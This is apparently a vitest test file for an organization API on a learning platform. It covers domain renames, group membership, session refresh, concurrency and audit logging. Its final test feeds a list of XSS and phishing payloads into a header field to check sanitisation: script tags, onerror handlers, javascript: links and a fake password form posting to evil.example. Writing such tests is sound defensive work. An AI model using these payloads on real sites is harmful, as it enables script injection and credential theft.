import { refreshSession } from '@aulanova/contract/identity/auth'
import { updateUserGroups } from '@aulanova/contract/identity/user-groups'
import { readSiteDashboard } from '@aulanova/contract/organizations/learners'
import { reference } from '@aulanova/contract/reference/reference'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type TestApp, testApp } from '#testing/app.ts'
import { untilWaiting } from '#testing/locks.ts'

type Person = Awaited<ReturnType<TestApp['as']>>

let t: TestApp
let admin: Person
beforeAll(async () => {
  t = await testApp()
  admin = await t.as('admin')
})
afterAll(() => t.close())

const { create, update, remove } = reference.organizations
const add = async (Name: string, Domain: string) =>
  (await t.call(create, { body: { Name, Domain } }, admin)).body.Item.Uuid
const rename = (id: string, Name: string, Domain: string, more: object = {}) =>
  t.call(update, { params: { id }, body: { Name, Domain, ...more } }, admin)
const dashboard = (domain: string, who: { token: string }) =>
  t.call(readSiteDashboard, { params: { domain } }, who).then(({ status }) => status)
const groupsOf = async (id: string) => {
  const rows = await t.sql<{ groupName: string }[]>`select group_name from user_groups where user_id = ${id} order by 1`
  return rows.map(({ groupName }) => groupName)
}
const setGroups = (id: string, groups: string[]) =>
  t.call(updateUserGroups, { params: { id }, body: { groups } }, admin)

describe('another domain', () => {
  test('the members come along, and from the next request on they have the new group and not the old one', async () => {
    const id = await add('Universidad Uno', 'uno.example')
    const member = await t.as('general', 'uno.example')
    expect(await dashboard('uno.example', member)).not.toBe(403)
    expect((await rename(id, 'Universidad Uno', 'primera.example')).status).toBe(200)
    expect(await groupsOf(member.id)).toEqual(['general', 'primera.example'])
    // The token names the old group: it is void, and the renewed one has the new group.
    expect(await dashboard('uno.example', member)).toBe(401)
    const renewed = await t.call(refreshSession, { body: { refreshToken: member.refreshToken } })
    expect(renewed.body.payload.groups).toEqual(['general', 'primera.example'])
    expect(await dashboard('uno.example', renewed.body)).toBe(403)
    expect(await dashboard('primera.example', renewed.body)).not.toBe(403)
    const [count] = await t.sql`
      select sum(users) filter (where group_name = 'uno.example')::int as old,
        sum(users) filter (where group_name = 'primera.example')::int as new from group_counts`
    expect(count).toEqual({ old: 0, new: 1 })
    const [noted] = await t.sql`
      select before, after, details from audit_log where subject_id = ${id} and action = 'update'`
    expect(noted).toEqual({
      before: { Domain: 'uno.example' },
      after: { Domain: 'primera.example' },
      details: { Members: 1 },
    })
  })

  test('two organizations never have the same, also when both want it at once', async () => {
    const [one, two] = [await add('Dos A', 'dos-a.example'), await add('Dos B', 'dos-b.example')]
    const member = await t.as('dos-b.example')
    expect((await rename(two, 'Dos B', 'dos-a.example')).problem.code).toBe('NameTaken')
    const both = await Promise.all([rename(one, 'Dos A', 'dos.example'), rename(two, 'Dos B', 'dos.example')])
    expect(both.map(({ status }) => status).sort()).toEqual([200, 409])
    const [holder] = await t.sql`select id from organizations where details ->> 'Domain' = 'dos.example'`
    expect(await groupsOf(member.id)).toEqual([holder!.id === two ? 'dos.example' : 'dos-b.example'])
  })

  test('a domain that was released is free once the provider of identities has followed', async () => {
    const id = await add('Tres', 'tres.example')
    await t.as('tres.example')
    await rename(id, 'Tres', 'tercera.example')
    const early = await t.call(create, { body: { Name: 'Otra Tres', Domain: 'tres.example' } }, admin)
    expect(early.problem.code).toBe('NameTaken')
    await t.runJobs()
    expect(await add('Otra Tres', 'tres.example')).toEqual(expect.any(String))
    expect((await t.sql`select 1 from user_groups where group_name = 'tres.example'`).count).toBe(0)
  })

  test('two administrators who rename at once: the second is a conflict, and the members are with the first', async () => {
    const id = await add('Cuatro', 'cuatro.example')
    const member = await t.as('cuatro.example')
    const both = await Promise.all([rename(id, 'Cuatro', 'cuatro-a.example'), rename(id, 'Cuatro', 'cuatro-b.example')])
    const [now] = await t.sql`select details ->> 'Domain' as domain from organizations where id = ${id}`
    expect(await groupsOf(member.id)).toEqual([now!.domain])
    for (const { status } of both) expect([200, 409]).toContain(status)
  })

  test('no member is added to the old domain while it is renamed', async () => {
    const id = await add('Cinco', 'cinco.example')
    const person = await t.as('general')
    let joining: ReturnType<typeof setGroups> | undefined
    await t.sql.begin(async (tx) => {
      await tx`select 1 from organizations where id = ${id} for no key update`
      joining = setGroups(person.id, ['general', 'cinco.example'])
      await untilWaiting(t.sql)
      await tx`update organizations set details = details || '{"Domain": "quinta.example"}' where id = ${id}`
    })
    expect((await joining)?.problem.code).toBe('ItemNotFound')
    expect(await groupsOf(person.id)).toEqual(['general'])
  })

  test('a group that has people already is not taken over', async () => {
    const id = await add('Seis', 'seis.example')
    await t.as('seis.example')
    await t.as('sexta.example')
    expect((await rename(id, 'Seis', 'sexta.example')).problem.code).toBe('InUse')
  })

  test('one with members keeps a domain, and is not deleted', async () => {
    const id = await add('Siete', 'siete.example')
    const member = await t.as('siete.example')
    const without = await t.call(update, { params: { id }, body: { Name: 'Siete' } }, admin)
    expect(without.problem.code).toBe('InUse')
    expect((await t.call(remove, { params: { id } }, admin)).problem.code).toBe('InUse')
    await t.sql`delete from user_groups where user_id = ${member.id}`
    expect((await t.call(remove, { params: { id } }, admin)).status).toBe(204)
  })
})

describe('its look', () => {
  test.each([
    ['Colour', '#12a594', 'contrast'],
    ['Colour', '#ffffff', 'contrast'],
    ['Accent', '#e0a080', 'contrast'],
    ['TimeZone', 'America/Atlantis', 'unknown'],
    ['TimeZone', '-06', 'unknown'],
    ['TimeZone', '+0530', 'unknown'],
  ])('%s %s is refused: %s', async (field, value, reason) => {
    const answer = await t.call(create, { body: { Name: `Con ${value}`, [field]: value } }, admin)
    expect(answer.problem).toMatchObject({ code: 'ValidationFailed', details: [{ field, reason }] })
  })

  test('readable markup is stored, and a change is sanitised in the same way', async () => {
    const sent = { Name: 'Legible', Colour: '#103f2c', Accent: '#8f4a1f', TimeZone: 'America/Mexico_City' }
    const { body } = await t.call(create, { body: sent }, admin)
    expect(body.Item).toMatchObject(sent)
    const changed = await t.call(
      update,
      { params: { id: body.Item.Uuid }, body: { ...sent, Accent: '#ffee00' } },
      admin,
    )
    expect(changed.problem.details).toEqual([{ field: 'Accent', reason: 'contrast' }])
  })
})

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><use href="data:,x"/></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<style>.topbar{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example/"><input name="password" type="password"><button>Entrar</button></form>',
  '<div style="position:fixed;inset:0;z-index:2147483647">Inicia sesión</div>',
  '<div id="root" class="mantine-Modal-root" role="dialog" aria-modal="true" tabindex="0" popover>Inicia sesión</div>',
  '<header><nav><main><dialog open>Inicia sesión</dialog></main></nav></header>',
  '<a href="javascript:alert(1)" target="_blank" onclick="x()" style="position:fixed">uno</a>',
  '<a href="//evil.example" download ping="https://evil.example">dos</a>',
  '<p contenteditable draggable="true" data-portal slot="x" is="x-y">tres</p>',
  '<video autoplay src="x"></video><audio src="x"></audio><template><b>x</b></template>',
]

test('the header can neither run a script nor leave its box nor imitate our own chrome', async () => {
  const Header = `<p><strong>Facultad</strong> <a href="https://facultad.example/">de Ciencias</a></p>${attacks.join('')}`
  const { body } = await t.call(create, { body: { Name: 'Hostil', Header } }, admin)
  const header = String(body.Item.Header)
  expect(header).toContain('<strong>Facultad</strong>')
  expect(header).toContain('<a href="https://facultad.example/" rel="noopener noreferrer">de Ciencias</a>')
  const tags = [...header.matchAll(/<\/?([a-z0-9-]+)((?:\s[^>]*)?)>/g)]
  const names = new Set(tags.map(([, name]) => name))
  expect([...names].filter((name) => !['p', 'strong', 'a', 'div', 'b'].includes(name!))).toEqual([])
  const attributes = tags.flatMap(([, , given]) => [...given!.matchAll(/([a-z-]+)=/g)].map(([, name]) => name))
  expect([...new Set(attributes)].sort()).toEqual(['href', 'rel'])
  expect(header).not.toMatch(/javascript:|alert|evil|position|mantine/)
  for (const [link] of header.matchAll(/<a [^>]*>/g)) expect(link).toContain('rel="noopener noreferrer"')
})
